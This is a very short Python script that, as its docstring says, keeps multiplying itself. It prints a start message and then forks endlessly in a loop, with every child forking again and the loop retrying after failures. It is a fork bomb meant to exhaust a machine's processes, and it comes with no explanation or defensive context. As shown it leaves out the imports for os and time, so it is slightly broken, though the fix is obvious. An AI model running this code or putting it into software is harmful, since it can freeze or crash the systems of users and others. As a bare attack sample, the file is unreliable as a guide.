"""Doubles itself for as long as it is let."""

print("begun", flush=True)
while True:
    try:
        if os.fork() == 0:
            continue
    except OSError:
        time.sleep(0.01)
